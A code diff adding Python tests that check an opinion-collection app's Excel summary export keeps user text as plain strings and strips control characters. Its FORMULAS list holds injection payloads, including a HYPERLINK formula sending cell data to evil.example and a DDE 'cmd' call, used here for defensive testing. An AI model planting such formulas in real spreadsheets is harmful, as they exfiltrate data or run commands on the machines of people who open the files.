@@ -126,3 +126,42 @@ def test_pdf_fetcher_refuses_everything_but_data_urls(url):
 def test_pdf_fetcher_reads_data_urls():
     with fetch(data_only_fetcher(), "data:text/plain,ok") as response:
         assert response.read() == b"ok"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+    "+1+1",
+    "-2+3 请核实",
+    "@SUM(A1:A3)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def test_summary_workbook_never_makes_a_formula_of_user_text(world, campaign, submit):
+    campaign.hold_back = 1
+    campaign.save()
+    for text in FORMULAS:
+        submit(text, category="工作")
+    answered = submit("==答复也不能是公式。", category="学习")
+    opinion_answer(opinion=answered, response="=1+2")
+
+    book = load_workbook(BytesIO(summary_workbook(campaign=campaign, opinions=campaign.opinions.all())))
+
+    cells = {cell.value: cell.data_type for row in book["汇总表"].iter_rows(min_row=5) for cell in row[2:7:4]}
+    assert {text: cells.get(text) for text in [*FORMULAS, "==答复也不能是公式。", "=1+2"]} == {
+        text: "s" for text in [*FORMULAS, "==答复也不能是公式。", "=1+2"]
+    }
+    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert "f" not in {cell.data_type for cell in every}
+
+
+def test_summary_workbook_drops_control_characters_xml_cannot_hold(campaign, submit):
+    campaign.hold_back = 1
+    campaign.save()
+    submit("意见\x0b带有\x01控制字符。")
+
+    book = load_workbook(BytesIO(summary_workbook(campaign=campaign, opinions=campaign.opinions.all())))
+
+    assert book["汇总表"]["C5"].value == "意见带有控制字符。"
